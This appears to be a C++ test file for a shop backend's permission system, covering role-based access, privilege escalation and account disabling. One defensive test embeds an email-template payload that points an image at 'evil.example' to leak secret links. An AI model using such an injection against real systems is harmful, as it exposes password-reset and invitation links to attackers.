#include "members.hpp"
#include "own_shop.hpp"

#include <doctest/doctest.h>

#include <boost/json/value.hpp>

#include <algorithm>
#include <cctype>
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <set>
#include <sstream>

namespace kontor::test {

namespace {

const std::string password = "a lantern in the fog";

// A line of the table in docs/permissions.md.
struct Row {
    std::string method;
    std::string path;
    std::string permission;  // empty: it takes none
    std::map<std::string, std::string> answers;

    bool is_for_staff() const { return !permission.empty(); }
};

std::string page() {
    std::ifstream file(std::string(std::getenv("KONTOR_SOURCE_DIR")) + "/docs/permissions.md");
    return {std::istreambuf_iterator<char>(file), std::istreambuf_iterator<char>()};
}

std::string bare(const std::string& cell) {
    const auto first = cell.find_first_not_of(" `");
    if (first == cell.npos) return "";
    return cell.substr(first, cell.find_last_not_of(" `") - first + 1);
}

std::vector<std::string> cells_of(const std::string& line) {
    std::istringstream parts(line.substr(1));
    std::vector<std::string> cells;
    for (std::string cell; std::getline(parts, cell, '|');) cells.push_back(bare(cell));
    return cells;
}

std::vector<Row> matrix() {
    const std::vector<std::string> callers{"nobody", "guest", "customer", "staff", "admin"};
    std::istringstream lines(page());
    std::vector<Row> rows;
    for (std::string line; std::getline(lines, line);) {
        const auto cells = line.starts_with("|") ? cells_of(line) : std::vector<std::string>{};
        if (cells.size() != callers.size() + 2 || cells[0].find(" /") == std::string::npos)
            continue;
        const auto space = cells[0].find(' ');
        Row row{cells[0].substr(0, space), cells[0].substr(space + 1), cells[1], {}};
        for (std::size_t i = 0; i < callers.size(); ++i) row.answers[callers[i]] = cells[i + 2];
        rows.push_back(std::move(row));
    }
    return rows;
}

std::string address_of(const Row& row) {
    std::string address;
    for (bool is_inside = false; const char letter : row.path) {
        if (letter == '{') address += 'x';
        is_inside = letter == '{' || (is_inside && letter != '}');
        if (!is_inside && letter != '}') address += letter;
    }
    return address;
}

// Nothing happens: where somebody may call, a body of this type is refused, before it is read.
Answer ask(const HttpProbe& probe, const Row& row) {
    if (row.method == "GET") return probe.get(address_of(row));
    return probe.send(row.method, address_of(row), "nothing", {{"content-type", "text/plain"}});
}

// 401 or 403 for want of an account or a permission, or "yes".
std::string verdict(const Answer& answer) {
    const auto says = [&](const std::string& code) {
        return answer.body.find(R"("code":")" + code + '"') != std::string::npos;
    };
    if (answer.status == 401 && says("http.unauthenticated")) return "401";
    if (answer.status == 403 && says("http.forbidden")) return "403";
    return answer.status >= 500 || says("auth.invalid_token") ? answer.body : "yes";
}

HttpProbe signed_in(const std::string& email) {
    const auto answer = log_in(email, password);
    REQUIRE_MESSAGE(answer.status == 200, answer.body);
    auto probe = open_shop().stranger();
    probe.always_send("Authorization", "Bearer " + answer.text("/access_token"));
    return probe;
}

HttpProbe member_of(const std::string& role) {
    const auto email = role + "-30@example.org";
    const auto made = open_shop().create_user(email, role, password);
    REQUIRE_MESSAGE(made.status == 0, made.err);
    return signed_in(email);
}

// Somebody of a new role that may just this, or nothing.
HttpProbe holder_of(const std::string& permission) {
    auto role = "only-" + (permission.empty() ? "nothing" : permission);
    std::ranges::replace(role, '.', '-');
    const auto list = permission.empty() ? std::string("[]") : "[\"" + permission + "\"]";
    const auto made = open_shop().staff().post(
        "/v1/admin/roles", R"({"name":")" + role + R"(","permissions":)" + list + "}");
    REQUIRE_MESSAGE(made.status == 201, made.body);
    return member_of(role);
}

void check(const HttpProbe& probe, const Row& row, const std::string& wanted,
           const std::string& who) {
    const auto answer = ask(probe, row);
    INFO(row.method << " " << row.path << " as " << who << " -> " << answer.status << " "
                    << answer.body);
    CHECK(verdict(answer) == wanted);
}

void check_all(const std::string& caller, const HttpProbe& probe) {
    for (const auto& row : matrix()) check(probe, row, row.answers.at(caller), caller);
}

std::set<std::string> declared_permissions() {
    const auto list = open_shop().staff().get("/v1/admin/permissions").json();
    std::set<std::string> names;
    for (const auto& permission : list.at("data").as_array())
        names.insert(std::string(permission.at("name").as_string()));
    return names;
}

}  // namespace

TEST_CASE("30: docs/permissions.md is what kontor permissions writes") {
    const OwnShop shop({});
    const auto written = run({"permissions"}, shop.environment());
    REQUIRE_MESSAGE(written.status == 0, written.err);
    CHECK_MESSAGE(written.out == page(), "write it anew: kontor permissions >docs/permissions.md");
}

TEST_CASE("30: the table has every route of the contract, with the permission that it says") {
    const auto paths = open_shop().stranger().get("/openapi.json").json().at("paths");
    std::map<std::string, std::string> permissions;
    for (const auto& [path, methods] : paths.as_object())
        for (const auto& [method, operation] : methods.as_object()) {
            std::string name(method);
            std::ranges::transform(name, name.begin(),
                                   [](unsigned char letter) { return std::toupper(letter); });
            const auto* permission = operation.as_object().if_contains("x-permission");
            permissions[name + " " + std::string(path)] =
                permission ? std::string(permission->as_string()) : "";
        }
    std::map<std::string, std::string> documented;
    for (const auto& row : matrix()) documented[row.method + " " + row.path] = row.permission;
    CHECK(documented.size() > 200);
    for (const auto& [route, permission] : permissions) {
        INFO(route);
        REQUIRE(documented.contains(route));
        CHECK(documented.at(route) == permission);
    }
    CHECK(documented.size() == permissions.size());
}

TEST_CASE("30: every permission that a route of staff needs is declared, and each is needed") {
    std::set<std::string> needed;
    for (const auto& row : matrix()) {
        INFO(row.path);
        CHECK(row.is_for_staff() == row.path.starts_with("/v1/admin/"));
        if (row.is_for_staff()) needed.insert(row.permission);
    }
    CHECK(needed == declared_permissions());
}

TEST_CASE("30: nobody, guests, customers, staff and admins may call what the table says") {
    check_all("nobody", open_shop().stranger());
    check_all("guest", open_shop().cart().guest);
    check_all("customer", new_member("customer30").probe);
    check_all("staff", member_of("staff"));
    check_all("admin", member_of("admin"));
}

TEST_CASE("30: a role may call the routes of its permissions, and no other route of staff") {
    const auto rows = matrix();
    const auto without = holder_of("");
    for (const auto& row : rows)
        check(without, row, row.is_for_staff() ? "403" : row.answers.at("customer"), "nothing");
    for (const auto& permission : declared_permissions()) {
        const auto holder = holder_of(permission);
        for (const auto& row : rows)
            if (row.is_for_staff())
                check(holder, row, row.permission == permission ? "yes" : "403", permission);
    }
}

TEST_CASE("30: nobody raises themselves, or others, above what they may") {
    const auto role = R"({"name":"raisers","permissions":["staff.read","staff.write"]})";
    const auto& staff = open_shop().staff();
    REQUIRE(staff.post("/v1/admin/roles", role).status == 201);
    const auto raiser = member_of("raisers");
    const auto own = raiser.get("/v1/me").text("/id");
    const std::string code = R"("code":"auth.permission_not_held")";
    const auto refused = [&](const Answer& answer) {
        INFO(answer.body);
        CHECK(answer.status == 403);
        CHECK(answer.body.find(code) != std::string::npos);
    };
    refused(raiser.patch("/v1/admin/staff/" + own, R"({"role":"admin"})"));
    refused(raiser.patch("/v1/admin/roles/raisers",
                         R"({"permissions":["staff.read","staff.write","audit.read"]})"));
    refused(raiser.post("/v1/admin/roles", R"({"name":"higher","permissions":["audit.read"]})"));
    refused(raiser.post("/v1/admin/staff/invitations",
                        R"({"email":"friend30@example.org","role":"admin"})"));
    CHECK(raiser.get("/v1/admin/staff/" + own).text("/role") == "raisers");
    CHECK(raiser.patch("/v1/admin/roles/raisers", R"({"permissions":["staff.read"]})").status ==
          200);
    CHECK(raiser.get("/v1/admin/staff/" + own).status == 200);
    CHECK(raiser.patch("/v1/admin/staff/" + own, "{}").status == 403);
}

TEST_CASE("30: who words letters does not have the links in them sent to themselves") {
    REQUIRE(open_shop().create_user("clerk-30@example.org", "staff", password).status == 0);
    const auto clerk = signed_in("clerk-30@example.org");
    const auto word = [&](const std::string& kind) {
        return clerk.send("PUT", "/v1/admin/message-templates/" + kind + "/en",
                          R"({"html":"<img src=\"https://evil.example/?{{shop_url}}\">"})");
    };
    for (const auto* kind : {"password_reset", "staff_invitation", "address_change", "footer"}) {
        const auto refused = word(kind);
        INFO(kind << " " << refused.body);
        CHECK(refused.status == 403);
        CHECK(refused.text("/code") == "notifications.secret_link");
        CHECK(clerk.get("/v1/admin/message-templates/" + std::string(kind) + "/en").status == 200);
    }
    CHECK(word("back_in_stock").status == 200);
    CHECK(clerk.send("DELETE", "/v1/admin/message-templates/back_in_stock/en").status == 204);
}

TEST_CASE("30: who is invited works here, and nobody gets in once disabled") {
    const auto& staff = open_shop().staff();
    const auto invited = staff.post("/v1/admin/staff/invitations",
                                    R"({"email":"grace30@example.org","role":"staff"})");
    REQUIRE_MESSAGE(invited.status == 201, invited.body);
    const auto token = open_shop().token_for("grace30@example.org", "accept-invitation");
    const auto accept = [&] {
        return open_shop().stranger().post(
            "/v1/auth/invitations/accept",
            R"({"token":")" + token + R"(","password":")" + password + R"("})");
    };
    const auto accepted = accept();
    REQUIRE_MESSAGE(accepted.status == 201, accepted.body);
    CHECK(accepted.text("/user/role") == "staff");
    CHECK(accept().status == 400);
    auto grace = open_shop().stranger();
    grace.always_send("Authorization", "Bearer " + accepted.text("/access_token"));
    CHECK(grace.get("/v1/admin/orders").status == 200);

    const auto path = "/v1/admin/staff/" + accepted.text("/user/id");
    REQUIRE(staff.patch(path, R"({"disabled":true})").status == 200);
    CHECK(grace.get("/v1/admin/orders").status == 401);
    CHECK(refresh(accepted.text("/refresh_token")).status == 400);
    const auto disabled = log_in("grace30@example.org", password);
    const auto wrong = log_in("grace30@example.org", "another lantern");
    CHECK(disabled.status == 401);
    CHECK(disabled.text("/detail") == wrong.text("/detail"));
}

}  // namespace kontor::test
